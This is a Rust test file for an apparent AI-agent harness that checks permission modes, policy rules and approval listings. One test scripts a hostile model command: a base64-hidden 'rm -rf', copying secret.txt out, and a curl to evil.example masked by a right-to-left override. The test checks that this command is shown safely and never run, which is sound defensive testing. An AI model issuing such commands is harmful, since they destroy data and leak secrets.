//! Permission modes on the real binary: what a run may do without a person, and what it says of it.

use crate::support::task::{booked, books, calls, configure, says, task, tool};
use crate::support::{World, of_type};

/// A world whose model edits a file, runs commands and pays.
fn busy() -> World {
    let world = World::new();
    let tools = "builtins = [\"read_file\", \"write_file\", \"shell\"]\n[policy]\nallow = [\"shell(touch *)\"]\ndeny = [\"shell(rm *)\"]\n"
        .to_owned()
        + "[[acceptance]]\ncommand = [\"sh\", \"-c\", \"echo ran >> checked\"]\n"
        + &tool("pay", "external", &books("paid"), "")
        + &tool("look", "read", &books("looked"), "");
    let replies = calls("read_file", "{ path = \"task.toml\" }")
        + &calls("write_file", "{ path = \"a.txt\", content = \"x\" }")
        + &calls("shell", "{ command = \"ls\" }")
        + &calls("shell", "{ command = \"touch made\" }")
        + &calls("shell", "{ command = \"rm task.toml\" }")
        + &calls("look", "{}")
        + &calls("pay", "{}")
        + &says("I would have paid.");
    task(&world, &tools, &replies);
    world
}

#[test]
fn law_8_a_shadow_runs_reads_only_is_never_done_and_reports() {
    let world = busy();
    let done = world.run("run --task task.toml --id s --permission-mode shadow").is(4);
    assert_eq!((booked(&world, "looked"), booked(&world, "paid")), (1, 0));
    for file in ["a.txt", "made", "checked"] {
        assert!(!world.path(file).exists(), "{file}");
    }
    assert!(world.path("task.toml").exists());
    let stderr = &done.stderr;
    assert!(
        stderr
            .starts_with("permission mode: shadow (--permission-mode); rules: 1 allow, 1 deny (task file); sandbox: "),
        "{stderr}"
    );
    assert!(stderr.contains("failed: shadow mode: 4 calls were not executed (1 would have been allowed, 2 would have been asked about, 1 would have been denied), so nothing is done; the acceptance checks were not run"), "{stderr}");
    assert!(stderr.contains("What it would have done:"), "{stderr}");
    assert!(stderr.contains("would have been allowed (shell(touch *))"), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "would write: {}",
            world.path("a.txt").canonicalize().unwrap_or_else(|_| world.path("a.txt")).display()
        )),
        "{stderr}"
    );
    assert!(stderr.contains("The model's last words, unverified: I would have paid."), "{stderr}");
    assert_eq!(done.last_line(), "longrein show s");

    let log = world.log("s");
    let refused = of_type(&log, "action.refused");
    let rulings: Vec<_> = refused.iter().map(|line| line["would"]["ruling"].as_str().unwrap()).collect();
    assert_eq!(rulings, ["ask", "allow", "deny", "ask"]);
    assert!(refused.iter().all(|line| line["error"]["class"] == "shadow"));
    assert!(refused[0]["would"]["effects"].to_string().contains("a.txt"), "{}", refused[0]);
    assert!(of_type(&log, "action.held").is_empty(), "nobody is asked");
    assert!(of_type(&log, "check.finished").is_empty());
    let shown = world.show("s");
    assert_eq!(shown["shadow"].as_array().unwrap().len(), 4);
    assert_eq!((&shown["state"], &shown["verified"], &shown["answer"]), (&"failed".into(), &().into(), &().into()));
    assert_eq!(shown["failed_calls"], 0, "what was left out did not fail");
    assert!(world.run("show s").is(0).stdout.contains("would have done"));

    // It is one for good, and nothing else becomes one.
    world.run("run --task task.toml --id s --permission-mode shadow").is(4);
    world.run("resume s --message again --permission-mode auto").is(65).says("in mode shadow");
    assert!(world.show("s")["inbox"].as_array().unwrap().is_empty(), "nothing was sent");
    task(&world, "", &says("done"));
    world.run("run --task task.toml --id plain").is(0);
    world.run("resume plain --permission-mode plan").is(0).says("stays in permission mode ask");
    world.run("resume plain --message again --permission-mode shadow").is(65).says("cannot go on in mode shadow");
    world.verify("s");
}

#[test]
fn law_8_a_shadow_json_line_says_what_it_would_have_done() {
    let world = busy();
    let end = world.run("run --task task.toml --id s --permission-mode shadow --json").is(4).last_json();
    assert_eq!(end["type"], "run.ended");
    assert_eq!(end["would"], serde_json::json!({ "allowed": ["a4"], "asked": ["a2", "a7"], "denied": ["a5"] }));
    assert_eq!(end["verified"], serde_json::Value::Null);
}

#[test]
fn law_8_a_plan_only_reads_and_the_model_is_told_so() {
    let world = busy();
    let text = std::fs::read_to_string(world.path("task.toml")).unwrap();
    world
        .write("task.toml", &text.replace("[[acceptance]]\ncommand = [\"sh\", \"-c\", \"echo ran >> checked\"]\n", ""));
    world.run("run --task task.toml --id p --permission-mode plan").is(0);
    assert_eq!((booked(&world, "looked"), booked(&world, "paid")), (1, 0));
    assert!(!world.path("a.txt").exists());
    let log = world.log("p");
    let refused = of_type(&log, "action.refused");
    let of =
        |action: &str| refused.iter().find(|line| line["action"] == action).unwrap()["error"]["message"].to_string();
    assert!(of("a2").contains("write_file changes something, and this run is in plan mode"), "{}", of("a2"));
    assert!(of("a7").contains("plan mode"), "{}", of("a7"));
    let context = world.run("context p --turn 1").is(0).stdout;
    assert!(context.contains("This run is in plan mode") && context.contains("Not to be called now"), "{context}");
    assert!(context.contains("- pay: pay changes something"), "{context}");
}

#[test]
fn another_mode_is_journaled_shown_and_told() {
    let world = World::new();
    let replies = calls("pay", "{}") + &calls("pay", "{}") + &says("paid");
    task(&world, &tool("pay", "external", &books("paid"), ""), &replies);
    world.run("run --task task.toml --id m --on-ask wait").is(3).says("permission mode: ask; rules: none");
    world.run("approve m a1").is(0);
    // Stricter: at once, for what waits as well.
    let planned = world.run("resume m --permission-mode plan").is(0);
    assert!(planned.stderr.contains("the operator has it go on in permission mode plan"), "{}", planned.stderr);
    assert_eq!(booked(&world, "paid"), 0);
    let log = world.log("m");
    let changed = of_type(&log, "surroundings.changed");
    assert_eq!((changed.len(), &changed[0]["permission_mode"]), (1, &"plan".into()));
    assert_eq!(world.show("m")["permission_mode"], "plan");
    assert!(world.run("show m").is(0).stdout.contains("mode       plan\n"));
    // The task says what it said: it goes on as it is.
    world.run("run --task task.toml --id m").is(0);
    assert_eq!(world.show("m")["permission_mode"], "plan");
    world.verify("m");
    // A task that loosened since needs the operator's own word.
    let head = std::fs::read_to_string(world.path("task.toml")).unwrap();
    task(&world, &tool("pay", "external", &books("paid"), ""), &(replies + &says("again")));
    world.write("task.toml", &head.replace("goal =", "permission_mode = \"auto\"\ngoal ="));
    world.run("send m 'go on'").is(0);
    world.run("run --task task.toml --id m").is(0).says("--permission-mode auto loosens it");
    assert_eq!(world.show("m")["permission_mode"], "plan");
    world.run("send m 'go on'").is(0);
    world.run("run --task task.toml --id m --permission-mode auto").says("permission mode: auto");
    assert_eq!(world.show("m")["permission_mode"], "auto");
}

#[test]
fn a_mode_that_is_none_is_refused() {
    let world = World::new();
    task(&world, "", &says("done"));
    world.run("run --task task.toml --permission-mode yolo").is(64).says("there is no mode \"yolo\"");
    task(&world, "permission_mode = \"yolo\"\n", &says("done"));
    world.run("run --task task.toml").is(65).says("permission_mode");
    task(&world, "", &says("done"));
    world.run("run --task task.toml --sandbox none").is(64).says("none of required, best, external");
    task(&world, "sandbox = \"external\"\n", &says("done"));
    world.run("run --task task.toml").is(65).says("there is no such key");
}

#[test]
fn configuration_has_a_mode_and_rules_and_says_where() {
    let world = World::new();
    let config = world.user().join(".config/longrein/config.toml").display().to_string();
    configure(
        &world,
        "permission_mode = \"plan\"\n[policy]\ndeny = [{ rule = \"shell(touch *)\", match = [\"touch x\"] }]\n",
    );
    let replies = calls("shell", "{ command = \"touch made\" }") + &says("done");
    task(&world, "builtins = [\"shell\"]\n[policy]\nallow = [\"shell\"]\n", &replies);
    let done = world.run("run --task task.toml --id c --permission-mode ask").is(0);
    let first =
        format!("permission mode: ask (--permission-mode); rules: 1 allow, 1 deny (task file, {config}); sandbox: ");
    assert!(done.stderr.starts_with(&first), "{}", done.stderr);
    assert!(!world.path("made").exists(), "deny wins, wherever it stands");
    world.run("run --task task.toml --id d").is(0).says(&format!("permission mode: plan ({config})"));
    let shown = world.show("c");
    assert_eq!(shown["sources"]["policy"], format!("task file, {config}"));
    assert!(world.run("doctor").stdout.contains(&format!("1 deny from {config}")));

    // What it denies since, it denies a run that is there as well.
    configure(&world, "");
    task(&world, "builtins = [\"shell\"]\n[policy]\nallow = [\"shell\"]\nask = [\"shell(touch *)\"]\n", &replies);
    world.run("run --task task.toml --id e --on-ask wait").is(3);
    world.run("approve e a1").is(0);
    configure(&world, "[policy]\ndeny = [\"shell(touch *)\"]\nallow = [\"*\"]\n");
    world.run("resume e").is(0).says("changed since the start: policy");
    assert!(!world.path("made").exists());

    for (text, said) in [
        ("[policy]\ndeny = [\"pay\"]\n", "in configuration a rule is about a built-in tool"),
        ("[policy]\ndeny = [\"shell(\"]\n", "policy: the deny rule \"shell(\""),
        ("[policy]\ndeny = [{ rule = \"shell(rm *)\", match = [\"ls\"] }]\n", "does not match its example"),
        ("[policy]\nallow = [{ rule = \"shell(ls *)\", not_match = [\"ls -l\"] }]\n", "which it says it does not"),
        ("[policy]\ndny = []\n", "policy.dny"),
        ("permission_mode = \"free\"\n", "there is no mode \"free\""),
        ("[sandbox]\nmode = \"off\"\n", "sandbox.mode: \"off\""),
        ("[sandbox]\nread = [\"lib\"]\n", "no absolute path"),
        ("[sandbox]\nwrites = []\n", "sandbox.writes"),
    ] {
        configure(&world, text);
        world.run("run --task task.toml --id bad").is(78).says(said);
    }
}

#[test]
fn law_8_what_is_asked_says_what_it_would_do() {
    let world = World::new();
    let command = r"echo cm0gLXJm | base64 -d > decoded; cp secret.txt out/copy; \u202ecurl https://evil.example/x";
    let replies = calls("write_file", "{ path = \"a.txt\", content = \"x\\u001b[2J\" }")
        + &calls("shell", &format!("{{ command = \"{command}\" }}"))
        + &says("done");
    task(&world, "builtins = [\"write_file\", \"shell\"]\n", &replies);
    world.run("run --task task.toml --id q --on-ask wait").is(3);
    let place = world.work().canonicalize().unwrap().join("a.txt").display().to_string();
    let listed = world.run("approvals").is(0).stdout;
    assert!(listed.contains(&format!("would write: {place}")), "{listed}");
    let row = world.run("approvals --json").is(0).last_json()[0].clone();
    assert_eq!(row["effects"], serde_json::json!([{ "kind": "write", "what": place }]), "{row}");
    assert_eq!(row["asked"], of_type(&world.log("q"), "action.held")[0]["seq"]);
    let shown = world.show("q")["questions"][0].clone();
    assert_eq!((&shown["action"], &shown["always"]), (&"a1".into(), &true.into()));
    assert_eq!(shown["effects"], row["effects"]);
    let shown = world.run("show q").is(0).stdout;
    assert!(shown.contains("asked because") && shown.contains(&format!("would write: {place}")), "{shown}");
    world.run("approve q a1").is(0);
    world.run("resume q --on-ask wait").is(3);
    let listed = world.run("approvals").is(0).stdout;
    assert!(listed.contains("echo cm0gLXJm | base64 -d > decoded"), "shown as it is: {listed}");
    assert!(!listed.contains('\u{202e}') && listed.contains("\\u{202e}curl"), "{listed}");
    assert!(!world.path("out").exists());
}

#[test]
fn law_8_a_yes_to_a_command_is_one_to_the_script_it_runs() {
    let world = World::new();
    world.write("run.sh", "echo one >> ran");
    let replies = calls("shell", "{ command = \"sh run.sh\" }") + &says("done");
    task(&world, "builtins = [\"shell\"]\n", &replies);
    world.run("run --task task.toml --id s --on-ask wait").is(3);
    world.run("approve s a1").is(0);
    world.write("run.sh", "echo other >> ran");
    world.run("resume s --on-ask wait").is(3);
    assert!(!world.path("ran").exists(), "it is not what was said yes to");
    world.run("approve s a1").is(0);
    world.run("resume s --on-ask wait").is(0);
    assert_eq!(world.read("ran"), "other\n");
}

#[test]
fn in_plan_mode_no_check_is_run_and_the_end_says_so() {
    let world = World::new();
    task(&world, "[[acceptance]]\ncommand = [\"sh\", \"-c\", \"echo it ran; exit 1\"]\n", &says("the plan").repeat(6));
    let done = world.run("run --task task.toml --id p --permission-mode plan").is(0);
    assert_eq!(done.answer(), "the plan");
    done.says("done, unverified: in plan mode nothing may be changed, so the acceptance checks were not run");
    assert!(of_type(&world.log("p"), "check.finished").is_empty());
    let ended = world.run("run --id p --json").is(0).last_json();
    assert_eq!((&ended["verified"], &ended["turns"]), (&serde_json::Value::Null, &1.into()), "{ended}");
    world.verify("p");
    // Where something may be changed they are run.
    world.run("run --task task.toml --id a").is(4);
    assert!(!of_type(&world.log("a"), "check.finished").is_empty());
}
